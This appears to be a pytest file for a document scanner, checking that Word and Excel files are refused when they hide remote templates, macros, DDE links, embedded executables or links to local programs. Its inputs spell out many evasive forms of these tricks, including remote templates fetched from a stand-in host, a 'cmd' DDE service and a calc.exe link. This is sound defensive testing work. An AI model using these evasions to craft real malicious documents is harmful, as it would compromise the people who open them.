"""Word and Excel files that run or fetch something when they are opened, however it is written."""

from __future__ import annotations

import pytest

from tests.attack.packages import (
    OFFICE,
    PACKAGE,
    WORD,
    Parts,
    excel,
    looked,
    refused,
    relation,
    relations,
    word,
    zipped,
)

TEMPLATE = f"{OFFICE}/attachedTemplate"
FAR = "https://far.example/t.dotm"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
PROJECT = "application/vnd.ms-office.vbaProject"
AN_ENTITY = TEMPLATE.replace("attachedTemplate", "attached&#84;emplate")
FAR_AWAY = relations(relation("attachedTemplate", FAR, external=True))
SETTINGS = "word/_rels/settings.xml.rels"
OPENING = f'<Relationships xmlns="{PACKAGE}/relationships">'


def template(written: str) -> bytes:
    return word({SETTINGS: f"{OPENING}{written}</Relationships>"})


@pytest.mark.parametrize(
    "content",
    [
        template(f'<Relationship Id="r" Type="{TEMPLATE}" Target="{FAR}" TargetMode="External"/>'),
        template(f"<Relationship Id='r' Type='{TEMPLATE}' Target='{FAR}' TargetMode='External'/>"),
        template(
            f'<Relationship Id = "r" Type = "{TEMPLATE}" Target = "{FAR}" TargetMode = "External"/>'
        ),
        template(
            f'<Relationship Id="r" Type="{AN_ENTITY}" Target="{FAR}" TargetMode="E&#x78;ternal"/>'
        ),
        template(
            f'<Relationship\n\tId="r"\nType="{TEMPLATE}" Target="{FAR}"\nTargetMode="External" />'
        ),
        word(
            {
                SETTINGS: FAR_AWAY.replace("UTF-8", "UTF-16").encode("utf-16")
            }
        ),
        word(
            {
                "word/_rels/settings.xml.RELS": FAR_AWAY
            }
        ),
        word(
            {"WORD/_RELS/settings.xml.rels": FAR_AWAY}
        ),
        word(
            {"word/_rels/settings.xml%2Erels": FAR_AWAY}
        ),
        word({SETTINGS: relations(relation("attachedTemplate", FAR))}),  # said to be within
        word({SETTINGS: FAR_AWAY.replace(FAR, r"\\far\t.dotm")}),
        word({SETTINGS: FAR_AWAY.replace(FAR, "file:///C:/t.dotm")}),
        word(
            {
                SETTINGS: relations(
                    relation(
                        "attachedTemplate",
                        FAR,
                        external=True,
                        at="http://purl.oclc.org/ooxml/officeDocument/relationships",
                    )
                )
            }
        ),
        word({SETTINGS: FAR_AWAY.replace("<Rel", "<p:Rel").replace("xmlns", "xmlns:p")
              .replace("</Rel", "</p:Rel")}),
    ],
    ids=(
        "as usual", "single quotation marks", "spaces", "entities", "lines", "utf-16", ".RELS",
        "capitals", "percent", "no mode", "network path", "local path", "strict", "prefix",
    ),
)  # fmt: skip
def test_a_template_from_elsewhere_is_found_however_it_is_written(content: bytes) -> None:
    assert "fetches its template from elsewhere" in refused(content)


@pytest.mark.parametrize(
    ("name", "written"),
    [
        (SETTINGS, b"<Relationships"),  # broken
        (SETTINGS, relations().replace("UTF-8", "UTF-7").encode()),
        (SETTINGS, "<Relationships/>".encode("utf-32")),
        (SETTINGS, '<!DOCTYPE R [<!ENTITY a "b">]><Relationships/>'),
        ("word\\_rels\\settings.xml.rels", relations()),
        ("word/x/../_rels/settings.xml.rels", relations()),
        ("word/_rels/DOCUMENT.xml.rels", relations()),  # twice, for who does not mind capitals
        ("word/_rels/settings.xml.rels/[0].last.piece", relations()),
    ],
)
def test_relations_that_programs_would_read_each_in_their_way_are_refused(
    name: str, written: str | bytes
) -> None:
    assert any(
        said in refused(word({name: written}))
        for said in ("cannot be read", "declarations", "damaged")
    )


@pytest.mark.parametrize(
    ("kind", "target", "what"),
    [
        ("image", "https://far.example/seen.png", "a picture"),
        ("image", r"\\far.example\share\seen.png", "a picture"),
        ("subDocument", "file://far.example/part.docx", "a part of its text"),
        ("oleObject", "https://far.example/x.html!", "a part"),
        ("frame", "https://far.example/x.html", "a part of its text"),
        ("aFChunk", "https://far.example/x.rtf", "a part of its text"),
        ("externalLinkPath", "https://far.example/x.xlsx", "figures of another workbook"),
        ("mailMergeSource", "https://far.example/x.mdb", "data"),
        ("video", "https://far.example/x.mp4", "a part"),
        ("somethingNew", "https://far.example/x", "a part"),
    ],
)
def test_nothing_but_a_link_may_lead_out_of_a_document(kind: str, target: str, what: str) -> None:
    said = refused(word(of_document=(relation(kind, target, external=True),)))
    assert f"fetches {what} from elsewhere" in said
    assert "far.example" in said


@pytest.mark.parametrize("mode", ["", 'TargetMode="EXTERNAL"', 'TargetMode=" External "'])
def test_what_leads_elsewhere_does_so_whatever_it_says_of_itself(mode: str) -> None:
    seen = f'<Relationship Id="r" Type="{OFFICE}/image" Target="//far.example/x.png" {mode}/>'
    assert "fetches a picture from elsewhere" in refused(word(of_document=(seen,)))


@pytest.mark.parametrize(
    "address",
    [
        r"\\far.example\share\x.docx",
        "//far.example/share/x.docx",
        "file://far.example/share/x.docx",
        "FILE:///C:/Windows/System32/calc.exe",
        "f&#105;le://far.example/x",
        "ms-word:ofe|u|https://far.example/x.docx",
        "javascript:alert(1)",
        "search-ms:query=x&amp;crumb=location:%5C%5Cfar.example",
        "run.exe",
        "../x.lnk",
        " \\\\far.example\\share",
    ],
)
def test_a_link_leads_to_pages_and_people_alone(address: str) -> None:
    link = relation("hyperlink", address, external=True)
    assert "Links may only lead to web pages" in refused(word(of_document=(link,)))
    assert "Links may only lead to web pages" in refused(excel(of_sheet=(link,)))


def test_short_links_cannot_be_given_a_base_elsewhere() -> None:
    properties = "<Properties><HyperlinkBase>\\\\far.example\\x</HyperlinkBase></Properties>"
    assert "Links may only lead" in refused(word({"docProps/app.xml": properties}))


@pytest.mark.parametrize(
    "content",
    [
        word({"word/vbaProject.bin": OLE}),
        word({"word/notes.dat": OLE}),
        word({"word/media/image1.png": OLE}),
        word({"word/n.dat": b"x"}, of_document=(relation("vbaProject", "n.dat", at=MICROSOFT),)),
        word({"word/n.dat": b"x"}, overrides={"word/n.dat": PROJECT}),
        word(overrides={"word/document.xml": MACROS}),
        word({"word/c.xml": "<ocx/>"}, of_document=(relation("control", "c.xml"),)),
        word({"word/a.bin": b"x"}, of_document=(relation("oleObject", "a.bin"),)),
        word({"word/o.xml": "<customUI onLoad='x'/>"}),
        word(body="<w:p><wp15:webVideoPr xmlns:wp15='urn:x' embeddedHtml='&lt;script&gt;'/></w:p>"),
        word({"w/t.xml": "<t/>"}, of_document=(relation("webextensiontaskpanes", "../w/t.xml"),)),
        excel({"xl/m/a.xml": "<m/>"}, of_book=(relation("xlMacrosheet", "m/a.xml"),)),
        excel({"xl/a.xml": "<a/>"}, overrides={"xl/a.xml": MACRO_SHEET}),
    ],
    ids=lambda value: "",
)  # fmt: skip
def test_programs_are_found_under_every_name(content: bytes) -> None:
    assert "macro or another program" in refused(content)


@pytest.mark.parametrize("within", [b"MZ\x90\0", b"\x7fELF\x02", b"{\\rtf1", b"%PDF-1.7"])
def test_another_file_in_the_document_is_refused(within: bytes) -> None:
    assert "another file embedded" in refused(word({"word/embeddings/a.bin": within}))


def test_a_workbook_in_a_document_is_looked_through_as_well() -> None:
    """A chart has its figures in one."""
    at, chart = "word/embeddings/Book.xlsx", (relation("package", "embeddings/Book.xlsx"),)
    assert looked(word({at: excel()}, of_document=chart)) == {"type": "docx"}
    assert "macro" in refused(word({at: excel({"xl/a.bin": OLE})}, of_document=chart))
    deep = word({at: word({at: word({at: excel()})})})
    assert "another file embedded" in refused(deep)
    assert refused(word({at: zipped({"a.exe": b"MZ"})}))


@pytest.mark.parametrize(
    "drawn",
    [
        '<v:imagedata xmlns:v="urn:v" src="https://far.example/x.png"/>',
        '<v:fill xmlns:v="urn:v" src="\\\\far.example\\x.png"/>',
    ],
)
def test_a_drawing_of_older_word_shows_no_picture_from_elsewhere(drawn: str) -> None:
    assert "fetches a picture from elsewhere" in refused(word(body=drawn))


@pytest.mark.parametrize(
    ("kind", "content", "what"),
    [
        ("externalLink", "<externalLink><ddeLink ddeService='cmd'/></externalLink>", "figures"),
        ("somethingElse", "<externalLink><x:ddeLink xmlns:x='urn:x'/></externalLink>", "figures"),
        ("connections", "<connections/>", "data"),
        ("queryTable", "<queryTable/>", "data"),
        ("volatileDependencies", "<volTypes/>", "data"),
    ],
)
def test_a_workbook_takes_no_data_from_elsewhere(kind: str, content: str, what: str) -> None:
    book = excel({"xl/other/a.xml": content}, of_book=(relation(kind, "other/a.xml"),))
    assert f"fetches {what}" in refused(book)


def test_what_is_not_a_document_is_told_what_to_do() -> None:
    of_slides = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    assert "a presentation" in refused(word(overrides={"word/document.xml": of_slides}))
    a_template = {"word/document.xml": f"{WORD}.template.main+xml"}
    assert "a template" in refused(word(overrides=a_template))
    two = relations(
        relation("officeDocument", "word/document.xml"), relation("officeDocument", "word/b.xml")
    )
    assert "not a file that can be attached" in refused(word({"_rels/.rels": two}))
    both: Parts = {"mimetype": "application/vnd.oasis.opendocument.text"}
    assert "damaged" in refused(word(both))
